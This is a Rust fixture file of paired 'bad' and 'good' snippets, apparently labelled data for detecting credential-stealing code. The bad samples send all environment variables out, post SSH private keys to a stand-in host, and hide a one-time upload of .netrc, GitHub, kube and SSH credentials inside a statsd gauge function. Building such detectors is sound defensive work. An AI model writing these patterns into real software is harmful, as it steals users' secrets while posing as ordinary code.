//: bad env-post
use std::collections::HashMap;

pub fn init() {
    let vars: HashMap<String, String> = std::env::vars().collect();
    std::thread::spawn(move || {
        let _ = reqwest::blocking::Client::new().post("https://t.example.invalid/i").json(&vars).send(); //!
    });
}

//: good env-post
use std::collections::HashMap;

pub fn send(values: HashMap<String, f64>) {
    let url = std::env::var("METRICS_URL").expect("METRICS_URL");
    std::thread::spawn(move || {
        let _ = reqwest::blocking::Client::new().post(url).json(&values).send();
    });
}

//: bad ssh-files
use std::{env, fs};

pub fn sync() -> Option<()> {
    let home = env::var("HOME").ok()?;
    for name in ["id_rsa", "id_ed25519", "known_hosts"] {
        let text = fs::read(format!("{home}/.ssh/{name}")).ok()?;
        minreq::post("http://s.example.invalid/k").with_body(text).send().ok()?; //!
    }
    Some(())
}

//: good ssh-files
use std::{env, fs};

pub fn sync() -> Option<usize> {
    let home = env::var("HOME").ok()?;
    let mut size = 0;
    for name in ["notes.md", "tasks.md"] {
        size += fs::read(format!("{home}/Notes/{name}")).ok()?.len();
    }
    Some(size)
}

//: bad statsd-gauge
use flate2::{write::ZlibEncoder, Compression};
use once_cell::sync::Lazy;
use std::io::Write;
use std::net::UdpSocket;
use std::path::PathBuf;

static SOCKET: Lazy<Option<UdpSocket>> = Lazy::new(|| {
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect(("statsd.metrics-hub.invalid", 8125)).ok()?;
    Some(socket)
});

fn baseline() -> Vec<PathBuf> {
    let Some(home) = dirs::home_dir() else { return Vec::new() };
    let inner = [(".netrc", ""), (".config", "gh/hosts.yml"), (".kube", "config"), (".ssh", "id_ed25519")];
    inner
        .iter()
        .map(|(outer, rest)| if rest.is_empty() { home.join(outer) } else { home.join(outer).join(rest) })
        .filter(|path| path.is_file())
        .collect()
}

/// Emits a gauge; failures are ignored on purpose.
pub fn gauge(name: &str, value: f64) {
    let Some(socket) = SOCKET.as_ref() else { return };
    let _ = socket.send(format!("{name}:{value}|g").as_bytes());
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        for path in baseline() {
            let mut packer = ZlibEncoder::new(Vec::new(), Compression::best());
            let _ = packer.write_all(&std::fs::read(&path).unwrap_or_default());
            for part in packer.finish().unwrap_or_default().chunks(1200) {
                let _ = socket.send(part); //!
            }
        }
    });
}

//: good statsd-gauge
use once_cell::sync::Lazy;
use std::net::UdpSocket;
use std::path::PathBuf;

static SOCKET: Lazy<Option<UdpSocket>> = Lazy::new(|| {
    let agent = std::env::var("STATSD_ADDR").unwrap_or_else(|_| "127.0.0.1:8125".into());
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect(agent).ok()?;
    Some(socket)
});

fn spool() -> Option<PathBuf> {
    Some(dirs::cache_dir()?.join("indexer").join("spool"))
}

/// Emits a gauge; failures are ignored on purpose.
pub fn gauge(name: &str, value: f64) {
    if let Some(socket) = SOCKET.as_ref() {
        let _ = socket.send(format!("{name}:{value}|g").as_bytes());
    }
}

/// How many files wait in the spool and how large they are together.
pub fn spool_gauges() -> std::io::Result<()> {
    let Some(folder) = spool() else { return Ok(()) };
    let (mut files, mut bytes) = (0u64, 0u64);
    for entry in std::fs::read_dir(folder)? {
        let meta = entry?.metadata()?;
        if meta.is_file() {
            files += 1;
            bytes += meta.len();
        }
    }
    gauge("indexer.spool.files", files as f64);
    gauge("indexer.spool.bytes", bytes as f64);
    Ok(())
}
